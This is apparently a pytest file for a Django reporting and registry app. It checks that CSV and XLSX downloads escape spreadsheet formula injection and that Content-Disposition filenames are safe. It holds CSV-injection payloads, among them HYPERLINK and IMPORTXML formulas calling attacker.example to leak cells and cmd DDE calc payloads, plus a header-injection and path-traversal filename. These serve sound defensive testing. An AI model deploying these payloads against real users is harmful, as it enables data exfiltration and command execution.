"""Files people download: named in any script, CSV with a BOM and an XLSX beside it, and no cell
that a spreadsheet would run as a formula, whichever file of the product writes it."""

import csv
import io
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook
from tests.reporting_fixtures import complete, english, shipped_templates, start, user

from salw.core.downloads import (
    BYTE_ORDER_MARK,
    FORMULA_TRIGGERS,
    content_disposition,
    csv_text,
    neutralise,
    xlsx_bytes,
)
from salw.core.testing import signed_in_client, token_client
from salw.registry.models import ImportProblem, ImportRun
from salw.reporting import services
from salw.reporting.workbook import export_workbook

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("shipped_templates", "english")]
__all__ = ["english", "shipped_templates"]

# Values that spreadsheets run, after OWASP's "CSV injection" page, with text around them as
# people type it: Arabic, Chinese, Cyrillic, serials with slashes and hyphens.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1;"Подробнее")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 رقم تسلسلي",
    "\r=1+1 序列号",
    '=IMPORTXML(CONCAT("http://attacker.example/", B2), "//a")',
    "-AB/123-45",
]
NUMBERS = ["-12", "-12.5", "+3", "1,5", "2028"]
PDF = b"%PDF-1.7\n% national action plan\n"


def _filename_star(header: str) -> str:
    encoded = header.split("filename*=UTF-8''", 1)[1]
    return unquote(encoded)


def _csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(BYTE_ORDER_MARK.encode()), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_csv_neutralised(cells: list[list[str]], originals: list[str]) -> None:
    """No cell starts as a formula would; each hostile value is there, behind its apostrophe."""
    flat = [cell for row in cells for cell in row]
    for cell in flat:
        if cell.startswith(FORMULA_TRIGGERS):
            assert cell.lstrip("+-").replace(".", "").replace(",", "").isdigit(), cell
    for value in originals:
        assert "'" + value in flat, value


def _xlsx_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_neutralised(data: bytes, originals: list[str]) -> None:
    """No formula cell at all; each hostile value comes back as the same text."""
    cells = _xlsx_cells(data)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    for value in originals:
        assert value.replace("\r", "\n") in texts, value  # XML reads CR as a line break


# --- the writer itself -------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_neutralised(value: str) -> None:
    assert neutralise(value) == "'" + value
    cells = _csv_cells(csv_text([["value"], [value]]).encode())
    assert cells[1] == ["'" + value]
    _assert_xlsx_neutralised(xlsx_bytes([["value"], [value]]), [value])


def test_numbers_stay_numbers() -> None:
    from decimal import Decimal

    assert [neutralise(n) for n in NUMBERS] == NUMBERS
    assert neutralise(-7) == -7 and neutralise(Decimal("1E+4")) == "10000"
    cells = _xlsx_cells(xlsx_bytes([["n"], [-7], [Decimal("2.5")], ["-12"]]))
    assert [(c.value, c.data_type) for c in cells[1:]] == [(-7, "n"), (2.5, "n"), ("-12", "s")]


def test_text_xml_cannot_hold_is_left_out_instead_of_failing_the_file() -> None:
    pasted = "Ministère\x0bde l’Intérieur\x00"  # a vertical tab and a NUL pasted from Word
    cells = _xlsx_cells(xlsx_bytes([["name"], [pasted]]))
    assert cells[1].value == "Ministèrede l’Intérieur"


@pytest.mark.parametrize(
    "name",
    [
        "Отчёт о маркировке 2026.pdf",
        "国家报告（2026）.docx",
        "التقرير الوطني ٢٠٢٦.pdf",
        "Informe de Perú – versión final.xlsx",
    ],
)
def test_names_in_any_script_keep_their_name(name: str) -> None:
    header = content_disposition(name)
    assert header.startswith('attachment; filename="')
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.isascii() and fallback.endswith(name.rsplit(".", 1)[1])
    assert _filename_star(header) == name
    header.encode("latin-1")  # the header itself is plain ASCII, as HTTP wants


def test_names_cannot_escape_the_header_or_the_folder() -> None:
    header = content_disposition('../../etc/pass"wd\r\nSet-Cookie: x=1.csv')
    assert "\r" not in header and "\n" not in header and ".." not in header
    assert header.count('"') == 2
    assert content_disposition("plain-name.csv") == 'attachment; filename="plain-name.csv"'
    assert content_disposition("r.pdf", inline=True) == 'inline; filename="r.pdf"'


# --- every file of the product -----------------------------------------------------------------


def test_an_attachment_with_a_cyrillic_name_downloads_under_that_name() -> None:
    report = start()
    name = "План действий 2024–2030 (утверждён).pdf"
    services.save_answers_with_files(
        report,
        {"national_action_plan": "yes", "national_action_plan_file": "NAP"},
        {"national_action_plan_file": (name, PDF)},
        base_revision=report.revision,
        actor=user("kenya.focal"),
    )
    value = services.answer_values(report)["national_action_plan_file"]
    response = signed_in_client("kenya.focal").get(f"/reports/{report.pk}/files/{value['file']}/")
    assert response.content == PDF
    assert response["Content-Disposition"].startswith("attachment;")
    assert _filename_star(response["Content-Disposition"]) == name


def test_published_answers_as_csv_and_xlsx(django_capture_on_commit_callbacks: Any) -> None:
    hostile = HOSTILE[0]
    report = complete(start(), manufacture_laws_list=hostile)
    with django_capture_on_commit_callbacks(execute=True):
        services.submit_report(report, actor=user("kenya.focal"))
    client = Client()
    csv_response = client.get("/reports/cycles/bms10/answers.csv")
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="answers-bms10.csv"' in csv_response["Content-Disposition"]
    cells = _csv_cells(b"".join(csv_response.streaming_content))
    _assert_csv_neutralised(cells, [hostile])
    # codes in their column, the same answer in words beside them, in the reader's language
    header = cells[0]
    euc = next(row for row in cells if row[header.index("question_id")] == "export_euc_required")
    assert euc[header.index("value")] == "yes" and euc[header.index("answer")] == "Yes"
    french = client.get("/reports/cycles/bms10/answers.csv", HTTP_ACCEPT_LANGUAGE="fr")
    cells = _csv_cells(b"".join(french.streaming_content))
    euc = next(row for row in cells if row[header.index("question_id")] == "export_euc_required")
    assert euc[header.index("answer")] == "Oui" and "certificat" in euc[header.index("question")]
    xlsx = client.get("/reports/cycles/bms10/answers.xlsx")
    assert 'filename="answers-bms10.xlsx"' in xlsx["Content-Disposition"]
    _assert_xlsx_neutralised(xlsx.content, [hostile])
    for file_format in ("csv", "xlsx"):
        listed = client.get("/reports/public/", {"format": file_format})
        assert f'filename="reports.{file_format}"' in listed["Content-Disposition"]
    listed = client.get("/reports/public/", {"format": "csv"}, HTTP_ACCEPT_LANGUAGE="fr")
    cells = _csv_cells(b"".join(listed.streaming_content))
    kenya = dict(zip(cells[0], next(row for row in cells if row[0] == "KEN"), strict=True))
    assert kenya["year"] == "2028" and kenya["language"] == "en"
    assert kenya["language_name"] == "Anglais" and "2028" in kenya["meeting"]


def test_the_offline_workbook_writes_answers_as_text() -> None:
    hostile = HOSTILE[6]
    report = complete(start(), manufacture_laws_list=hostile)
    data = export_workbook(report, services.answer_values(report), "ru")
    _assert_xlsx_neutralised(data, [hostile])
    # and the value comes back unchanged when the workbook is uploaded again
    report = services.import_workbook(report, data, actor=user("kenya.focal"))
    assert services.answer_values(report)["manufacture_laws_list"] == hostile


def test_bad_row_reports_echo_uploaded_values_neutralised(tmp_path: Path) -> None:
    header = ["Record number", "Type", "Serial No", "Make", "Model", "Calibre", "Year", "Country"]
    rows = [
        [f"KE-{n:06d}", value, f"SN/{n:04d}-Б", "Glock", "Glock 17", "9x19", "2010", "AUT"]
        for n, value in enumerate(HOSTILE[:4] + HOSTILE[6:], start=1)
    ]
    path = tmp_path / "реестр.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
    call_command(
        "registry", "import", str(path), "--map", "serial=Serial No", "--no-progress",
        "--as", "kenya.records", "--bad-rows", str(tmp_path / "bad.csv"), stdout=io.StringIO(),
    )  # fmt: skip
    run = ImportRun.objects.get(file_name=path.name)
    echoed = list(ImportProblem.objects.filter(run=run).values_list("value", flat=True))
    hostile = [value for value in echoed if value.startswith(FORMULA_TRIGGERS)]
    assert len(hostile) >= 4, echoed

    page = signed_in_client("kenya.records")
    csv_page = page.get(f"/registry/imports/{run.pk}/bad-rows.csv")
    _assert_csv_neutralised(_csv_cells(b"".join(csv_page.streaming_content)), hostile)
    xlsx_page = page.get(f"/registry/imports/{run.pk}/bad-rows.xlsx")
    assert f'filename="import-{run.pk}-bad-rows.xlsx"' in xlsx_page["Content-Disposition"]
    _assert_xlsx_neutralised(xlsx_page.content, hostile)
    api = token_client("kenya.records").get(f"/api/registry/imports/{run.pk}/bad-rows/")
    _assert_csv_neutralised(_csv_cells(b"".join(api.streaming_content)), hostile)
    _assert_csv_neutralised(_csv_cells((tmp_path / "bad.csv").read_bytes()), hostile)


def test_sdg_table_as_csv_and_xlsx() -> None:
    client = signed_in_client("analyst")
    csv_response = client.get("/tracing/sdg-16-4-2/?format=csv")
    cells = _csv_cells(b"".join(csv_response.streaming_content))
    assert cells[0][0] == "country_iso3"
    xlsx = client.get("/tracing/sdg-16-4-2/?format=xlsx")
    assert 'filename="sdg-16-4-2.xlsx"' in xlsx["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    years = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(year, int) for year in years)
